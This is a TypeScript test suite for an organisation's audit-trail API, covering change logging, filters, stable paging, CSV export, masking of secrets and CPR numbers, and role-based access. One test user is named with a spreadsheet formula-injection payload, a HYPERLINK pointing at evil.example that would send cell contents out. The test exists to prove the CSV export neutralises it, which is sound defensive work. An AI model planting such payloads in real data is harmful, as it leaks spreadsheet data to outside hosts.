import assert from 'node:assert/strict';
import { createHash, randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { sql } from 'kysely';
import { grantMembership } from '../../src/admin/index.ts';
import { DEMO, DEV_IDP_SUBJECT_PREFIX } from '../../src/demo/index.ts';
import { addUser, organisationWithMailboxById, type Db } from '../../src/store/index.ts';
import { testDatabases } from '../helpers/databases.ts';
import { sessionFor, type TestSession } from '../helpers/session.ts';
import { api, type Person } from '../portal/helpers.ts';
import { authorityAdministration } from './organisation-helpers.ts';

// The audit trail (docs/audit.md, src/admin/audit): real administrative changes made through
// /api/admin, each found once in the organisation's audit with who, when, and the values before and
// after; the filters, stable pages, the CSV file, who may read it, and what it never shows.

type Localized = { da: string; en: string };
type Change = { field: string; label: Localized; before: Localized | null; after: Localized | null };
type Entry = {
  id: string; at: string; type: string; category: string; what: Localized; changes: Change[]; data: Record<string, unknown>;
  actor: { kind: string; id: string; name: string; userId?: string };
};
type Page = { entries: Entry[]; next: string | null };

/** A person with this name and role in the organisation (granted by an operator), logged in. */
async function person(ctx: { db: Db; eventChains: number }, organisationId: string, role: 'admin' | 'writer', name: string): Promise<TestSession> {
  const sub = `test-audit-${randomUUID().slice(0, 8)}`;
  await ctx.db.transaction().execute(async (trx) => {
    const userId = await addUser(trx, { subject: `${DEV_IDP_SUBJECT_PREFIX}${sub}`, name, citizenId: null });
    await grantMembership(trx, ctx.eventChains, 'cli', { userId, organisationId, role, folderIds: null });
  });
  return sessionFor(ctx.db, sub);
}

const danishDay = (date: Date) => new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Copenhagen' }).format(date);

for (const database of testDatabases()) {
  describe(`the audit trail (${database.name})`, () => {
    let kuvert: Awaited<ReturnType<typeof authorityAdministration>>['kuvert'];
    let karen: Person;
    let mette: Person;
    let jens: Person;
    let authority: string;
    let started: Date;
    const secrets: string[] = [];
    let newSender: string;
    let writer: TestSession;
    let admin: TestSession;
    let folderId: string;
    let ruleId: string;

    const app = () => kuvert.app;
    const db = (): Db => kuvert.store.db;
    const base = (id = authority) => `/api/admin/organisations/${id}`;
    const audit = async (who: TestSession, query = '') => {
      const answer = await api(app(), who, 'GET', `${base()}/audit${query ? `?${query}` : ''}`);
      assert.equal(answer.status, 200, answer.text);
      return answer.body as Page;
    };
    /** Every entry the filters choose, page by page. */
    const all = async (query = '') => {
      const entries: Entry[] = [];
      let cursor: string | null = null;
      do {
        const page = await audit(karen, `limit=200${query ? `&${query}` : ''}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
        entries.push(...page.entries);
        cursor = page.next;
      } while (cursor);
      return entries;
    };
    const since = (entries: Entry[]) => entries.filter((e) => new Date(e.at) >= started);
    const change = (entry: Entry | undefined, field: string) => {
      const found = entry?.changes.find((c) => c.field === field);
      assert.ok(found, `${entry?.type} names ${field}: ${JSON.stringify(entry?.changes)}`);
      return [found.before?.da ?? null, found.after?.da ?? null];
    };

    before(async () => {
      ({ kuvert, karen, mette, jens, authority } = await authorityAdministration(database));
      writer = await person(kuvert.ctx, authority, 'writer', 'Wilma Skriver');
      admin = await person(kuvert.ctx, authority, 'admin', '=HYPERLINK("https://evil.example/?x="&A1;"klik")');
      started = new Date();
    });
    after(async () => { await kuvert.drop(); });

    it('makes changes through /api/admin: each is in the audit once, with who, when, before and after', async () => {
      const call = async (who: TestSession, method: 'POST' | 'PUT' | 'PATCH', url: string, body: unknown, status = 200) => {
        const answer = await api(app(), who, method, url, body);
        assert.equal(answer.status, status, `${method} ${url}: ${answer.text}`);
        return answer.body;
      };
      // a contact point's name
      await call(karen, 'PATCH', `${base()}/contact-points/${DEMO.contactPoints[0].id}`, { name: 'Borgerservice og information' });
      // a person's role: writer → administrator
      await call(karen, 'PUT', `${base()}/people/${writer.userId}`, { role: 'admin', folderIds: null });
      // a folder and a rule that files into it (comparing a CPR number, which the audit must never show)
      folderId = (await call(karen, 'POST', `/api/mailboxes/${karen.mailboxId}/folders`, { name: 'Borgersager' }, 201)).id;
      ruleId = (await call(karen, 'POST', `${base()}/rules`, {
        name: 'Jens til Borgersager', enabled: true, stopHere: false,
        conditions: [{ field: 'cpr', op: 'equals', value: DEMO.citizens[0].cpr }], actions: [{ kind: 'file', folderId }],
      }, 201)).id;
      // a new sender system, its secret rotated, made the default sender
      const created = await call(karen, 'POST', `${base()}/systems`, { kind: 'sender', name: 'Nyt afsendersystem' }, 201);
      newSender = created.id;
      secrets.push(created.secret);
      secrets.push((await call(karen, 'POST', `${base()}/systems/${newSender}/rotate`, { graceHours: 0 })).secret);
      await call(karen, 'PUT', `${base()}/systems/${newSender}/default`, {});
      // the ordinary administrator names a contact point (their name starts with "=")
      await call(admin, 'PATCH', `${base()}/contact-points/${DEMO.contactPoints[1].id}`, { description: 'Byggesager og BBR' });

      const entries = since(await all());
      const now = Date.now();
      const once = (type: string, test: (e: Entry) => boolean = () => true) => {
        const found = entries.filter((e) => e.type === type && test(e));
        assert.equal(found.length, 1, `${type} once: ${JSON.stringify(entries.map((e) => e.type))}`);
        const entry = found[0]!;
        assert.ok(new Date(entry.at).getTime() >= started.getTime() && new Date(entry.at).getTime() <= now, `${type} at ${entry.at}`);
        return entry;
      };
      const byKaren = (e: Entry) => e.actor.kind === 'user' && e.actor.userId === karen.userId && e.actor.name === 'Karen Sørensen';

      const contactPoint = once('CONTACT_POINT_CHANGED', (e) => e.data.contactPointId === DEMO.contactPoints[0].id);
      assert.ok(byKaren(contactPoint), JSON.stringify(contactPoint.actor));
      assert.equal(contactPoint.category, 'contact-points');
      assert.deepEqual(change(contactPoint, 'name'), ['Borgerservice', 'Borgerservice og information']);
      assert.equal(contactPoint.what.da, 'Kontaktpunktet "Borgerservice og information" blev ændret');
      assert.equal(contactPoint.what.en, 'The contact point "Borgerservice og information" was changed');

      const role = once('MEMBERSHIP_CHANGED');
      assert.ok(byKaren(role));
      assert.deepEqual(change(role, 'role'), ['skriver', 'administrator']);
      assert.equal(role.what.da, 'Adgangen for Wilma Skriver blev ændret');

      const folder = once('FOLDER_CREATED');
      assert.deepEqual(change(folder, 'name'), [null, 'Borgersager']);
      const rule = once('RULE_CREATED');
      assert.ok(byKaren(rule));
      assert.equal(rule.category, 'rules');
      assert.deepEqual(change(rule, 'name'), [null, 'Jens til Borgersager']);
      assert.deepEqual(change(rule, 'rule'), [null, 'Når CPR-nummeret er 221177-****: læg i mappen Borgersager.']);

      const made = once('SYSTEM_CREATED');
      assert.deepEqual(change(made, 'kind'), [null, 'afsendersystem']);
      once('SYSTEM_SECRET_ROTATED');
      const sender = once('SYSTEM_DEFAULT_CHANGED', (e) => e.data.systemId === newSender);
      assert.ok(byKaren(sender));
      assert.deepEqual(change(sender, 'defaultSender'), ['Kommunen afsendersystem', 'Nyt afsendersystem']);

      const byAdmin = once('CONTACT_POINT_CHANGED', (e) => e.data.contactPointId === DEMO.contactPoints[1].id);
      assert.deepEqual([byAdmin.actor.kind, byAdmin.actor.userId], ['user', admin.userId]);
      assert.deepEqual(change(byAdmin, 'description'), [DEMO.contactPoints[1].description, 'Byggesager og BBR']);

      // newest first
      const times = entries.map((e) => new Date(e.at).getTime());
      assert.deepEqual(times, [...times].sort((a, b) => b - a));
      // the operator who granted the two people at the start is there too
      assert.ok((await all()).some((e) => e.type === 'MEMBERSHIP_GRANTED' && e.actor.kind === 'operator' && e.data.userId === admin.userId));
    });

    it('finds every administrative change of the organisation by its mailbox (the indexed column), and the index is there', async () => {
      const rows = await db().selectFrom('event').select(['type', 'body', 'mailbox_id', 'message_id']).where('at', '>=', started).execute();
      const mailboxId = (await organisationWithMailboxById(db(), authority))!.mailboxId;
      const mine = rows.filter((r) => (JSON.parse(r.body) as { data: { organisationId?: string } }).data.organisationId === authority);
      assert.ok(mine.length >= 6, `the changes above left events (${mine.length})`);
      const audited = new Set((await all()).map((e) => e.type));
      for (const row of mine.filter((r) => audited.has(r.type))) {
        assert.deepEqual([row.type, row.mailbox_id, row.message_id], [row.type, mailboxId, null]);
      }
      const index = (await sql<{ indexdef: string }>`select indexdef from pg_indexes where indexname = 'event_mailbox_admin' and schemaname = current_schema()`.execute(db())).rows;
      assert.equal(index.length, 1, 'migration 016 made the index');
      assert.match(index[0]!.indexdef, /\(mailbox_id, at, chain, seq\).*WHERE \(\(mailbox_id IS NOT NULL\) AND \(message_id IS NULL\)\)/);
    });

    it('filters by category, actor and day', async () => {
      const contactPoints = await all('category=contact-points');
      assert.ok(contactPoints.length >= 3 && contactPoints.every((e) => e.category === 'contact-points'), JSON.stringify(contactPoints.map((e) => e.type)));
      const systems = since(await all('category=systems'));
      assert.deepEqual(new Set(systems.map((e) => e.type)), new Set(['SYSTEM_CREATED', 'SYSTEM_SECRET_ROTATED', 'SYSTEM_DEFAULT_CHANGED']));

      const byAdmin = await all(`actor=user:${admin.userId}`);
      assert.deepEqual(byAdmin.map((e) => e.type), ['CONTACT_POINT_CHANGED']);
      const byKaren = since(await all(`actor=user:${karen.userId}`));
      assert.ok(byKaren.length >= 7 && byKaren.every((e) => e.actor.userId === karen.userId));
      const operators = await all('actor=operator');
      assert.ok(operators.length >= 2 && operators.every((e) => e.actor.kind === 'operator'), JSON.stringify(operators.map((e) => e.actor)));
      assert.ok((await all('actor=kuvert')).every((e) => e.actor.kind === 'kuvert'));

      const today = danishDay(new Date());
      const tomorrow = danishDay(new Date(Date.now() + 86_400_000));
      const yesterday = danishDay(new Date(Date.now() - 86_400_000));
      assert.equal((await all(`from=${today}&to=${today}`)).length, (await all()).length, 'everything happened today');
      assert.deepEqual(await all(`to=${yesterday}`), []);
      assert.deepEqual(await all(`from=${tomorrow}`), []);
      const combined = await all(`from=${today}&category=contact-points&actor=user:${karen.userId}`);
      assert.deepEqual(combined.map((e) => e.data.contactPointId), [DEMO.contactPoints[0].id]);

      for (const [query, code] of [
        [`from=${tomorrow}&to=${today}`, 'AUDIT_PERIOD_INVALID'], ['from=2026-02-30', 'AUDIT_PERIOD_INVALID'], ['category=letters', 'FST_ERR_VALIDATION'],
        ['actor=user:nobody', 'FST_ERR_VALIDATION'], ['cursor=bm9wZQ', 'AUDIT_CURSOR_INVALID'],
      ] as const) {
        const refused = await api(app(), karen, 'GET', `${base()}/audit?${query}`);
        assert.equal(refused.status, 400, `${query}: ${refused.text}`);
        if (code !== 'FST_ERR_VALIDATION') assert.equal(refused.body.errorCode, code, query);
      }
    });

    it('pages are stable: every entry once, in order, also when changes are made between pages', async () => {
      const whole = (await all()).map((e) => e.id);
      assert.ok(whole.length > 6);
      const paged: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const page: Page = await audit(karen, `limit=3${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`);
        assert.ok(page.entries.length <= 3);
        paged.push(...page.entries.map((e) => e.id));
        cursor = page.next;
        if (pages++ === 0) {
          // a change between the first page and the second comes before the first page, not between them
          const renamed = await api(app(), karen, 'PATCH', `${base()}/contact-points/${DEMO.contactPoints[0].id}`, { name: 'Borgerservice' });
          assert.equal(renamed.status, 200, renamed.text);
        }
      } while (cursor);
      assert.deepEqual(paged, whole);
      assert.equal(new Set(paged).size, paged.length);
      const [newest] = (await audit(karen, 'limit=1')).entries;
      assert.equal(newest?.type, 'CONTACT_POINT_CHANGED');
      assert.deepEqual(change(newest, 'name'), ['Borgerservice og information', 'Borgerservice']);
      assert.equal((await audit(karen, 'limit=1')).next !== null, true);
    });

    it('gives the same as a CSV file: byte order mark, semicolons, a cell starting with "=" made harmless', async () => {
      const answer = await api(app(), karen, 'GET', `${base()}/audit.csv?category=contact-points`);
      assert.equal(answer.status, 200, answer.text);
      assert.match(String(answer.headers['content-type']), /^text\/csv; charset=utf-8/);
      assert.match(String(answer.headers['content-disposition']), /^attachment; filename="kuvert-revisionsspor-12345678\.csv"$/);
      const raw = answer.raw as Buffer;
      assert.deepEqual([...raw.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte order mark');
      const text = raw.subarray(3).toString('utf8');
      const lines = text.split('\r\n');
      assert.equal(lines[0], 'Tidspunkt (dansk tid);Hvem;Bruger-id;Kategori;Hændelse;Hvad;Før;Efter');
      assert.equal(lines.at(-1), '', 'ends with CRLF');
      const byAdmin = lines.find((l) => l.includes(admin.userId));
      assert.ok(byAdmin, text);
      // the name begins with "=": quoted (it holds ; and "), with an apostrophe first, so no spreadsheet runs it
      assert.match(byAdmin, /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d;"'=HYPERLINK\(""https:\/\/evil\.example\/\?x=""&A1;""klik""\)";[0-9a-f-]{36};Kontaktpunkter;CONTACT_POINT_CHANGED;/);
      assert.ok(!/(^|;)=/.test(text.replace(/"[^"]*(""[^"]*)*"/g, '')), 'no unquoted cell starts with =');
      assert.match(text, /;Karen Sørensen;[0-9a-f-]{36};Kontaktpunkter;CONTACT_POINT_CHANGED;"Kontaktpunktet ""Borgerservice og information"" blev ændret";Navn: Borgerservice;Navn: Borgerservice og information\r\n/);
      const english = await api(app(), karen, 'GET', `${base()}/audit.csv?lang=en&actor=user:${karen.userId}`);
      assert.equal(english.status, 200);
      assert.ok(english.text.startsWith('\uFEFFTime (Danish time);Who;User id;Category;Event;What;Before;After\r\n'), english.text.slice(0, 80));
      assert.match(english.text, /;Karen Sørensen;[0-9a-f-]{36};Systems;SYSTEM_DEFAULT_CHANGED;The default sender system changed;Default sender system: Kommunen afsendersystem;Default sender system: Nyt afsendersystem\r\n/);
      assert.equal(english.text.split('\r\n').length - 2, (await all(`actor=user:${karen.userId}`)).length, 'one line per entry');
    });

    it('never shows a secret or a CPR number', async () => {
      const json = JSON.stringify(await all());
      const csv = (await api(app(), karen, 'GET', `${base()}/audit.csv`)).text + (await api(app(), karen, 'GET', `${base()}/audit.csv?lang=en`)).text;
      assert.equal(secrets.length, 2);
      for (const secret of secrets) {
        const hash = createHash('sha256').update(secret).digest('hex');
        for (const [what, text] of [['JSON', json], ['CSV', csv]] as const) {
          assert.ok(!text.includes(secret), `no system secret in the ${what}`);
          assert.ok(!text.includes(hash), `no secret hash in the ${what}`);
        }
      }
      for (const text of [json, csv]) {
        assert.ok(!text.includes(DEMO.citizens[0].cpr), 'no CPR number');
        assert.ok(text.includes('221177-****'), 'the rule\'s CPR number masked');
      }
      // nor does the event log the audit reads
      const bodies = (await db().selectFrom('event').select('body').where('at', '>=', started).execute()).map((r) => r.body).join('\n');
      assert.ok(!bodies.includes(DEMO.citizens[0].cpr) && secrets.every((s) => !bodies.includes(s)));
    });

    it('says who administers what', async () => {
      const answer = await api(app(), karen, 'GET', `${base()}/administrators`);
      assert.equal(answer.status, 200, answer.text);
      const view = answer.body as {
        organisation: { cvr: string }; roles: Array<{ role: string; people: Array<{ userId: string; name: string; since: string; grantedBy: { kind: string } }> }>;
        folders: Array<{ id: string; name: string; kind: string; people: unknown[]; responsible: unknown }>;
      };
      assert.equal(view.organisation.cvr, DEMO.authority.cvr);
      assert.deepEqual(view.roles.map((r) => r.role), ['super-admin', 'admin', 'writer', 'reader']);
      const named = (role: string) => view.roles.find((r) => r.role === role)!.people.map((p) => p.name).sort();
      assert.deepEqual(named('super-admin'), ['Karen Sørensen']);
      assert.ok(named('admin').includes('Wilma Skriver'), 'promoted above');
      assert.deepEqual(named('writer'), []);
      const wilma = view.roles[1]!.people.find((p) => p.userId === writer.userId)!;
      assert.ok(new Date(wilma.since) >= started, 'since her present role began');
      assert.deepEqual(view.folders.map((f) => [f.kind, f.name]).filter(([, name]) => name === 'Borgersager' || name === 'Indbakke'), [['INBOX', 'Indbakke'], ['USER', 'Borgersager']]);
    });

    it('is for the organisation\'s super-administrators only', async () => {
      for (const path of ['audit', 'audit.csv', 'administrators']) {
        const url = `${base()}/${path}`;
        const asAdmin = await api(app(), admin, 'GET', url);
        assert.deepEqual([asAdmin.status, asAdmin.body?.errorCode], [403, 'FORBIDDEN_ROLE'], `an administrator: ${path}`);
        const asOther = await api(app(), mette, 'GET', url);
        assert.deepEqual([asOther.status, asOther.body?.errorCode], [404, 'ORGANISATION_NOT_FOUND'], `another organisation's super-administrator: ${path}`);
        const asCitizen = await api(app(), jens, 'GET', url);
        assert.equal(asCitizen.status, 404, `a citizen: ${path}`);
        const anonymous = await api(app(), undefined, 'GET', url);
        assert.equal(anonymous.status, 401, `no session: ${path}`);
      }
      // Mette's own organisation's audit holds none of Kommunen's changes
      const theirs = await api(app(), mette, 'GET', `/api/admin/organisations/${(await db().selectFrom('organisation').select('id').where('cvr', '=', DEMO.company.cvr).executeTakeFirstOrThrow()).id}/audit?limit=200`);
      assert.equal(theirs.status, 200, theirs.text);
      assert.ok((theirs.body as Page).entries.every((e) => e.data.organisationId === undefined || e.data.organisationId !== authority));
      assert.ok(!(theirs.body as Page).entries.some((e) => e.data.ruleId === ruleId || e.data.systemId === newSender));
    });
  });
}
